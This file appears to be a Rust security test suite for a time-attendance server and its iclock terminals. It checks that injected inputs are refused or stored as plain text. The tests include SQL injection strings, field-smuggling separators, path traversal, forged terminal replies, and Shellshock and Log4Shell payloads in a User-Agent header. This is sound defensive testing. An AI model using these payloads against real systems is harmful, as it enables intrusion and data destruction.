//! What was tried against servers and terminals of this kind: text that would become another field or
//! another command, and terminals that cannot be trusted.

use crate::testing::{TestApp, on_both};
use muster::access::Rights;
use muster::profile::Profile;
use muster_store::Sql;
use serde_json::json;

const PEOPLE: &str = "/personnel/api/employees/";
const TERMINALS: &str = "/iclock/api/terminals/";

async fn scene(app: &TestApp) -> crate::testing::Api<'_> {
    let admin = app.api(Profile::EasyTimePro, Rights::administrator()).await;
    let area = json!({ "area_code": "north", "area_name": "North" });
    admin.post("/personnel/api/areas/", area).await.is(201);
    for sn in ["GATE", "REAR"] {
        let new = json!({ "sn": sn, "area": "north" });
        admin.post(TERMINALS, new).await.is(201);
    }
    admin
}

#[tokio::test]
async fn attack_31_no_value_of_a_person_becomes_another_field_or_command_of_a_terminal() {
    on_both(|app| async move {
        let admin = scene(&app).await;
        let new = |name: &str, value: &str| {
            let mut new = json!({ "emp_code": "7", "area": ["north"] });
            new[name] = json!(value);
            new
        };
        for separator in ["\t", "\r", "\n", "\0"] {
            let value = format!("x{separator}Pri=14");
            for name in [
                "emp_code",
                "first_name",
                "last_name",
                "card_no",
                "device_password",
            ] {
                let answer = admin.post(PEOPLE, new(name, &value)).await;
                assert_eq!(
                    answer.status, 400,
                    "{name} with {separator:?}: {}",
                    answer.text
                );
                let answer = answer.json();
                assert!(
                    answer[name].is_array(),
                    "{name} with {separator:?}: {answer}"
                );
            }
        }
        assert_eq!(app.number("SELECT count(*) FROM employee").await, 0);
        assert_eq!(app.told("GATE").await, [""; 0]);
        // What separates nothing stays what it is.
        admin
            .post(PEOPLE, new("first_name", "C:9:CLEAR DATA Pri=14,x"))
            .await
            .is(201);
        assert_eq!(
            app.told("GATE").await,
            ["DATA UPDATE USERINFO PIN=7\tName=C:9:CLEAR DATA Pri=14,x\tPri=0\tPasswd=\tCard=\tVerify=-1"]
        );
    })
    .await;
}

#[tokio::test]
async fn attack_34_a_terminal_ends_no_command_of_another_and_sends_nothing_for_it() {
    on_both(|app| async move {
        let admin = scene(&app).await;
        for sn in ["GATE", "REAR"] {
            let body = json!({ "devices_sn": [sn] });
            admin.post(&format!("{TERMINALS}clear_capture/"), body).await.is(200);
        }
        // Both know it as their first.
        assert_eq!(app.get("/iclock/getrequest?SN=GATE").await.body, "C:1:CLEAR PHOTO\n");
        for forged in ["ID=1&Return=0&CMD=X\n", "ID=1&SN=GATE&Return=0&CMD=X\n"] {
            let answer = app.post("/iclock/devicecmd?SN=REAR", forged).await;
            assert_eq!(answer.whole(), (200, "OK"));
        }
        for (id, code) in [("2", 0), ("1 OR 1=1", 0), ("-1", 0), ("99999999999999999999", 0)] {
            let result = format!("ID={id}&Return={code}&CMD=X\n");
            app.post("/iclock/devicecmd?SN=GATE", result).await;
        }
        let states: Vec<(String, String)> = app
            .app
            .store
            .all(&Sql::new(
                "SELECT t.sn, c.state FROM terminal_command AS c JOIN terminal AS t ON t.id = c.terminal_id ORDER BY t.sn",
                [],
            ))
            .await
            .expect("read");
        assert_eq!(states[0], ("GATE".to_owned(), "sent".to_owned()));
        // Of two names the first one counts, at every door.
        let row = "1\t2026-01-15 07:00:00\t0\t1\t0\t0\t0\t0\t0\t0\n";
        app.post("/iclock/cdata?SN=REAR&SN=GATE&table=ATTLOG&Stamp=1", row).await;
        let by: Vec<(String,)> = app
            .app
            .store
            .all(&Sql::new("SELECT terminal_sn FROM punch", []))
            .await
            .expect("read");
        assert_eq!(by, [("REAR".to_owned(),)]);
    })
    .await;
}

#[tokio::test]
async fn attack_34_35_a_terminal_puts_nothing_on_people_of_other_areas() {
    on_both(|app| async move {
        let admin = scene(&app).await;
        let area = json!({ "area_code": "plant", "area_name": "Plant" });
        admin.post("/personnel/api/areas/", area).await.is(201);
        admin
            .post(TERMINALS, json!({ "sn": "PLANT", "area": "plant" }))
            .await
            .is(201);
        for sn in ["GATE", "REAR", "PLANT"] {
            let target = format!("/iclock/cdata?SN={sn}&table=options");
            app.post(&target, "FPVersion=10,PhotoFunOn=1").await;
        }
        let new = json!({ "emp_code": "1004", "area": ["north"] });
        admin.post(PEOPLE, new).await.is(201);
        let record = ["DATA UPDATE USERINFO PIN=1004\tName=\tPri=0\tPasswd=\tCard=\tVerify=-1"];
        for sn in ["GATE", "REAR"] {
            assert_eq!(app.obeyed(sn).await, record, "{sn}");
        }
        let rows = [
            "USER PIN=1004\tName=Mallory\tPasswd=1111\tCard=666\tVerify=3",
            "FP PIN=1004\tFID=3\tSize=8\tValid=1\tTMP=b3RoZXJz",
            "USERPIC PIN=1004\tSize=8\tContent=b3RoZXJz",
        ];
        let brings = async |sn: &str| {
            let target = format!("/iclock/cdata?SN={sn}&table=OPERLOG&Stamp=1");
            let answer = app.post(&target, format!("{}\n", rows.join("\n"))).await;
            assert_eq!(answer.whole(), (200, "OK: 3"), "{sn}");
        };
        brings("PLANT").await;
        app.run_jobs().await;
        for sn in ["GATE", "REAR", "PLANT"] {
            assert_eq!(app.told(sn).await, [""; 0], "{sn}");
        }
        assert_eq!(app.number("SELECT count(*) FROM biometric").await, 0);
        let kept = "/iclock/api/unread/?ordering=id&reason=not_applied&terminal_sn=";
        let kept = admin.get(&format!("{kept}PLANT")).await.is(200);
        let kept = kept["data"].as_array().expect("rows").iter();
        let kept: Vec<&str> = kept.filter_map(|row| row["text"].as_str()).collect();
        assert_eq!(
            kept,
            [&rows[0].replace("1111", "…"), rows[1], rows[2]],
            "and nothing is lost"
        );
        // The person comes to the plant: now its terminal may speak of him.
        let both = json!({ "area": ["north", "plant"] });
        admin.patch(&format!("{PEOPLE}1004/"), both).await.is(200);
        app.obeyed("PLANT").await;
        brings("PLANT").await;
        let taken = [
            "DATA UPDATE USERINFO PIN=1004\tName=Mallory\tPri=0\tPasswd=1111\tCard=666\tVerify=3",
            "DATA UPDATE FINGERTMP PIN=1004\tFID=3\tSize=8\tValid=1\tTMP=b3RoZXJz",
            "DATA UPDATE USERPIC PIN=1004\tSize=8\tContent=b3RoZXJz",
        ];
        assert_eq!(app.obeyed("GATE").await, taken);
        // Who is there because the server has put him there is no stranger, though the terminal moves.
        admin
            .post(PEOPLE, json!({ "emp_code": "1005", "area": ["north"] }))
            .await
            .is(201);
        for sn in ["GATE", "REAR"] {
            app.obeyed(sn).await;
        }
        admin
            .patch(&format!("{TERMINALS}GATE/"), json!({ "area": "plant" }))
            .await
            .is(200);
        let row = "FP PIN=1005\tFID=6\tSize=8\tValid=1\tTMP=b3RoZXJz\n";
        app.post("/iclock/cdata?SN=GATE&table=OPERLOG&Stamp=2", row)
            .await;
        assert_eq!(
            app.obeyed("REAR").await,
            ["DATA UPDATE FINGERTMP PIN=1005\tFID=6\tSize=8\tValid=1\tTMP=b3RoZXJz"]
        );
    })
    .await;
}

#[tokio::test]
async fn attack_34_35_what_a_terminal_brought_before_its_person_came_opens_no_door_elsewhere() {
    on_both(|app| async move {
        let admin = scene(&app).await;
        let area = json!({ "area_code": "plant", "area_name": "Plant" });
        admin.post("/personnel/api/areas/", area).await.is(201);
        admin
            .post(TERMINALS, json!({ "sn": "PLANT", "area": "plant" }))
            .await
            .is(201);
        for sn in ["GATE", "PLANT"] {
            let target = format!("/iclock/cdata?SN={sn}&table=options");
            app.post(&target, "FPVersion=10").await;
        }
        let finger = "FP PIN=1004\tFID=3\tSize=8\tValid=1\tTMP=b3RoZXJz";
        let target = "/iclock/cdata?SN=PLANT&table=OPERLOG&Stamp=1";
        app.post(target, format!("{finger}\n")).await;
        let new = json!({ "emp_code": "1004", "area": ["north"] });
        admin.post(PEOPLE, new).await.is(201);
        let record = "DATA UPDATE USERINFO PIN=1004\tName=\tPri=0\tPasswd=\tCard=\tVerify=-1";
        assert_eq!(app.obeyed("GATE").await, [record]);
        assert_eq!(app.obeyed("GATE").await, [""; 0], "no finger of the plant");
        // The plant's terminal has a say in him as soon as he works there.
        let both = json!({ "employees": ["1004"], "areas": ["north", "plant"] });
        admin
            .post(&format!("{PEOPLE}adjust_area/"), both)
            .await
            .is(200);
        assert_eq!(
            app.obeyed("GATE").await,
            ["DATA UPDATE FINGERTMP PIN=1004\tFID=3\tSize=8\tValid=1\tTMP=b3RoZXJz"]
        );
    })
    .await;
}

#[tokio::test]
async fn attack_35_36_sql_and_paths_from_a_terminal_are_text() {
    on_both(|app| async move {
        let admin = scene(&app).await;
        let rows = "1 or 1=1\t2026-01-15 07:00:00\t0\t1\n\
                    1'; DROP TABLE punch;--\t2026-01-15 07:00:01\t0\t1\n\
                    ../../x\t2026-01-15 07:00:02\t0\t1\n\
                    7\t2026-01-15 07:00:03\t0\t1\t' OR ''='\n";
        let target = "/iclock/cdata?SN=GATE&table=ATTLOG&Stamp=1";
        assert_eq!(app.post(target, rows).await.whole(), (200, "OK: 4"));
        let users = "USER PIN=1 or 1=1\tName=A\tPri=14\nUSER PIN=8\tName='; DELETE FROM employee;--\tPri=14\n";
        let target = "/iclock/cdata?SN=GATE&table=OPERLOG&Stamp=1";
        assert_eq!(app.post(target, users).await.whole(), (200, "OK: 2"));
        let photo = b"PIN=../../x.jpg\nSN=GATE\nsize=4\nCMD=uploadphoto\0\xff\xd8\xff\xd9";
        let answer = app
            .post("/iclock/cdata?SN=GATE&table=ATTPHOTO&Stamp=1", photo)
            .await;
        assert_eq!(answer.whole(), (200, "OK"));
        let stored = app.number("SELECT count(*) FROM punch").await;
        let kept = app.number("SELECT count(*) FROM unread_line WHERE table_name = 'ATTLOG'").await;
        assert_eq!(stored + kept, 4, "each is a punch or kept as it came");
        let people = admin.get(PEOPLE).await.is(200);
        assert_eq!(
            (&people["count"], &people["data"][0]["emp_code"], &people["data"][0]["first_name"], &people["data"][0]["dev_privilege"]),
            (&json!(1), &json!("8"), &json!("'; DELETE FROM employee;--"), &json!(0))
        );
        for path in ["/iclock/x.jpg?SN=GATE", "/iclock/../../x.jpg?SN=GATE"] {
            assert_eq!(app.get(path).await.status, 404, "{path}");
        }
    })
    .await;
}

#[tokio::test]
async fn attack_35_what_a_terminal_sends_without_measure_is_taken_in_bounds() {
    on_both(|app| async move {
        scene(&app).await;
        let target = "/iclock/cdata?SN=GATE&table=ATTLOG&Stamp=1";
        let lines = "x\n".repeat(1_000_000);
        assert_eq!(app.post(target, lines).await.whole(), (200, "OK: 1000000"));
        let kept = "SELECT COUNT(*) FROM unread_line";
        assert!(
            (1..=1_000).contains(&app.number(kept).await),
            "it is kept in few rows"
        );
        let vast = "A".repeat(10 << 20);
        let row = format!(
            "FP PIN=8\tFID=0\tSize={}\tValid=1\tTMP={vast}\n",
            vast.len()
        );
        let target = "/iclock/cdata?SN=GATE&table=OPERLOG&Stamp=1";
        assert_eq!(app.post(target, row).await.whole(), (200, "OK: 1"));
        let beyond = format!("FP PIN=8\tTMP={}\n", "A".repeat(17 << 20));
        let head = format!(
            "POST {target} HTTP/1.1\r\nContent-Length: {}\r\n\r\n",
            beyond.len()
        );
        assert_eq!(app.wire(head).await.whole(), (413, "ERROR: BODY TOO LARGE"));
        // Others are served as before.
        let target = "/iclock/cdata?SN=REAR&table=ATTLOG&Stamp=1";
        let punch = "8\t2026-01-15 07:00:00\t0\t1\n";
        assert_eq!(app.post(target, punch).await.whole(), (200, "OK: 1"));
    })
    .await;
}

#[tokio::test]
async fn attack_37_what_a_program_calls_itself_does_nothing() {
    on_both(|app| async move {
        scene(&app).await;
        for agent in ["() { _; } >_[$($())] { /bin/sleep 4; }", "${jndi:ldap://x/}", "\u{1b}[2J"] {
            for (path, status) in [
                ("/iclock/getrequest?SN=GATE", 200),
                ("/iclock/ping?SN=GATE", 200),
                ("/iclock/nowhere?SN=GATE", 404),
                ("/iclock/api/terminals/", 401),
                ("/nowhere/", 404),
                ("/healthz", 200),
            ] {
                let answer = app
                    .wire(format!(
                        "GET {path} HTTP/1.1\r\nHost: x\r\nUser-Agent: {agent}\r\nConnection: close\r\n\r\n"
                    ))
                    .await;
                // A header with a control byte in it is no header to the ordinary HTTP server.
                let is_bad = agent.starts_with('\u{1b}') && !path.contains("?SN");
                let expected = if is_bad { 400 } else { status };
                assert_eq!(answer.status, expected, "{path} by {agent:?}");
            }
        }
    })
    .await;
}
